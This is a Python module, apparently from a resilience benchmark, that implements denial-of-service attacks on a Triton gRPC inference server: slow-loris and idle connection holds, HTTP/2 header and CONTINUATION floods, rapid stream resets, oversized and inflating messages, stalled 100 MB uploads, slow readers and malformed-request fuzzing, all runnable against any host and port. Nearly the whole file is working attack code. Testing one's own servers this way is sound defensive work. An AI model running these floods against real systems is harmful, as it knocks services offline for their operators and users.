"""The attacks, each a coroutine that goes on until it is told to stop.

    python -m bench.attack.attacks NAME HOST:PORT SECONDS

runs one and prints, as JSON, how often which outcome came.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import random
import resource
import sys
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any

import grpc
from tritonclient.grpc import service_pb2, service_pb2_grpc

from bench.attack import wire
from bench.attack.stage import ANY_SIZE, BULK, MODEL
from bench.attack.wire import Count

INFER = "/inference.GRPCInferenceService/ModelInfer"
LARGE_BYTES = 100_000_000
IDLE, LORIS = 10_000, 2_000
CALL_S = 60.0
Attack = Callable[[str, Count], Awaitable[Any]]
ATTACKS: dict[str, Attack] = {}


def attack(made: Attack) -> Attack:
    """List an attack under its name."""
    ATTACKS[made.__name__.replace("_", " ")] = made
    return made


def channel(address: str) -> grpc.aio.Channel:
    """Open a connection of its own."""
    return grpc.aio.insecure_channel(
        address, options=[*ANY_SIZE, ("grpc.use_local_subchannel_pool", 1)]
    )


async def noting(call: Awaitable[Any], count: Count) -> None:
    """Wait for a call and count its status."""
    try:
        await call
        count("OK")
    except grpc.aio.AioRpcError as failed:
        count(failed.code().name)


async def at_once(number: int, act: Callable[[random.Random], Awaitable[None]]) -> None:
    """Do something over and over, so many times at once."""

    async def over_and_over(seed: int) -> None:
        rng = random.Random(seed)  # noqa: S311 - the same each time, keeps no secret
        while True:
            await act(rng)

    await asyncio.gather(*(over_and_over(seed) for seed in range(number)))


def large(size_bytes: int = LARGE_BYTES) -> Any:
    """Make a right request, and a large one."""
    message = service_pb2.ModelInferRequest(model_name=BULK)
    message.inputs.add(name="X", datatype="UINT8", shape=[1, size_bytes])
    message.raw_input_contents.append(bytes(size_bytes))
    return message


@attack
async def nothing(address: str, count: Count) -> None:
    """Be there."""
    await asyncio.sleep(3600)


@attack
async def a_busy_neighbour(address: str, count: Count) -> None:
    """Use the processor, and leave the frontend alone."""
    while True:
        sum(range(100_000))
        await asyncio.sleep(0)


@attack
async def wrong_requests(address: str, count: Count) -> None:
    """Ask for what there isn't, in shapes that can't be."""

    def wrong(rng: random.Random) -> Any:
        message = service_pb2.ModelInferRequest(model_name=rng.choice([MODEL, MODEL, "m\0", "🦊"]))
        for _ in range(rng.randrange(4)):
            message.inputs.add(
                name=rng.choice(["X", "X", "Y", "\0"]),
                datatype=rng.choice(["UINT8", "UINT8", "FP16", "nonsense", ""]),
                shape=[rng.choice([-1, 0, 1, 2, 2**62]) for _ in range(rng.randrange(4))],
            )
        message.raw_input_contents.extend(rng.randbytes(5) for _ in range(rng.randrange(4)))
        message.parameters[rng.choice(["priority", "timeout", "p"])].string_param = "now"
        return message

    async with channel(address) as opened:
        stub = service_pb2_grpc.GRPCInferenceServiceStub(opened)
        await at_once(4, lambda rng: noting(stub.ModelInfer(wrong(rng)), count))


@attack
async def random_messages(address: str, count: Count) -> None:
    """Send bytes that decode to nothing."""
    async with channel(address) as opened:
        infer = opened.unary_unary(INFER)
        await at_once(4, lambda rng: noting(infer(rng.randbytes(rng.randrange(2000))), count))


@attack
async def random_bytes(address: str, count: Count) -> None:
    """Send bytes that are no HTTP/2, or soon are none any more."""
    starts = [b"", wire.PREFACE, wire.OPENING, wire.OPENING + wire.CALL]
    await at_once(
        4, lambda rng: wire.throw(address, rng.choice(starts) + rng.randbytes(500), count)
    )


@attack
async def truncated_frames(address: str, count: Count) -> None:
    """Stop in the middle of a frame, and hang up."""
    whole = wire.OPENING + wire.CALL
    await at_once(4, lambda rng: wire.throw(address, whole[: rng.randrange(len(whole))], count))


@attack
async def idle_connections(address: str, count: Count) -> None:
    """Open ten thousand connections and say nothing more than that one could talk."""
    await wire.hold(address, IDLE, wire.OPENING, b"", count)


@attack
async def slow_loris(address: str, count: Count) -> None:
    """Begin headers on two thousand connections, and never end them."""
    begun = wire.OPENING + wire.frame(wire.HEADERS, 0, 1, wire.BLOCK)
    drip = wire.frame(wire.CONTINUATION, 0, 1, wire.header(b"k", b"v"))
    await wire.hold(address, LORIS, begun, drip, count)


@attack
async def half_a_preface(address: str, count: Count) -> None:
    """Open two thousand connections and say half of the first word."""
    await wire.hold(address, LORIS, wire.PREFACE[:7], b"", count)


@attack
async def header_floods(address: str, count: Count) -> None:
    """Send headers without end, as large as they come."""
    more = wire.frame(wire.CONTINUATION, 0, 1, wire.header(b"k", b"v" * 120) * 100) * 50
    flood = wire.OPENING + wire.frame(wire.HEADERS, 0, 1, wire.BLOCK) + more
    await at_once(2, lambda rng: wire.throw(address, flood, count))


@attack
async def calls_taken_back(address: str, count: Count) -> None:
    """Begin calls and take them back at once, over and over."""
    flood = wire.OPENING + b"".join(
        wire.frame(wire.HEADERS, wire.END_HEADERS, stream, wire.BLOCK)
        + wire.frame(wire.RESET, 0, stream, bytes(4))
        for stream in range(1, 2001, 2)
    )
    await at_once(2, lambda rng: wire.throw(address, flood, count))


@attack
async def oversize_messages(address: str, count: Count) -> None:
    """Send more than is allowed."""
    encoded = bytes(200 << 20)
    async with channel(address) as opened:
        infer = opened.unary_unary(INFER)
        await at_once(2, lambda rng: noting(infer(encoded), count))


@attack
async def messages_that_grow(address: str, count: Count) -> None:
    """Send what is forty times as large once it is decoded."""
    encoded = b"\x2a\x00" * (50 << 20)
    async with channel(address) as opened:
        infer = opened.unary_unary(INFER)
        await at_once(2, lambda rng: noting(infer(encoded), count))


@attack
async def large_requests(address: str, count: Count) -> None:
    """Send sixty-four right requests of 100 MB each at once."""
    encoded = large().SerializeToString()
    async with contextlib.AsyncExitStack() as stack:
        infers = [
            (await stack.enter_async_context(channel(address))).unary_unary(INFER) for _ in range(8)
        ]

        async def act(rng: random.Random) -> None:
            await noting(rng.choice(infers)(encoded), count)
            # Who is told to try again in a second does so.
            await asyncio.sleep(1)

        await at_once(64, act)


@attack
async def stalled_requests(address: str, count: Count) -> None:
    """Begin two hundred requests of 100 MB on streams and calls, and stop halfway."""
    half = large(LARGE_BYTES).SerializeToString()[: LARGE_BYTES // 2]
    start = b"\0" + LARGE_BYTES.to_bytes(4, "big")
    path = wire.BLOCK.replace(
        wire.header(b":path", b"/inference.GRPCInferenceService/ServerLive"),
        wire.header(b":path", INFER.encode()),
    )

    async def stall(_: random.Random) -> None:
        try:
            async with wire.connection(address) as (reader, writer):
                writer.write(wire.OPENING + wire.frame(wire.HEADERS, wire.END_HEADERS, 1, path))
                count("begun")
                asyncio.get_running_loop().create_task(_skip(reader))
                for at in range(0, len(half), 16384):
                    piece = (start if not at else b"") + half[at : at + 16000]
                    writer.write(wire.frame(wire.DATA, 0, 1, piece))
                    await writer.drain()
                await asyncio.sleep(CALL_S)
        except OSError:
            count("reset")

    await at_once(200, stall)


async def _skip(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(1 << 16):
            pass


@attack
async def slow_readers(address: str, count: Count) -> None:
    """Ask on a hundred connections for answers of 20 MB, and read none."""
    encoded = large(20_000_000).SerializeToString()

    async def ask(_: random.Random) -> None:
        async with channel(address) as opened:
            call = opened.unary_stream(INFER)(encoded, timeout=CALL_S)
            await noting(call.wait_for_connection(), count)
            await asyncio.sleep(1 if call.done() else CALL_S)

    await at_once(100, ask)


@attack
async def many_streams(address: str, count: Count) -> None:
    """Open a thousand streams, ask on each for sixteen answers of 1 MB, and read none."""
    message = large(1_000_000)

    async def sixteen() -> AsyncIterator[Any]:
        for _ in range(16):
            yield message
        await asyncio.sleep(CALL_S)

    async def ask(_: random.Random) -> None:
        async with channel(address) as opened:
            stub = service_pb2_grpc.GRPCInferenceServiceStub(opened)
            calls = [stub.ModelStreamInfer(sixteen(), timeout=CALL_S) for _ in range(10)]
            for call in calls:
                await noting(call.wait_for_connection(), count)
            await asyncio.sleep(CALL_S)

    await at_once(100, ask)


def main() -> None:
    """Run one attack."""
    name, address, seconds = sys.argv[1:]
    # On a machine of its own it would take nothing from the others.
    os.nice(19)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    outcomes: Counter[str] = Counter()

    async def run() -> None:
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(float(seconds)):
                await ATTACKS[name](address, lambda outcome: outcomes.update([outcome]))
        # What is still going on ends with the process.
        print(json.dumps(outcomes), flush=True)
        os._exit(0)

    asyncio.run(run())


if __name__ == "__main__":
    main()
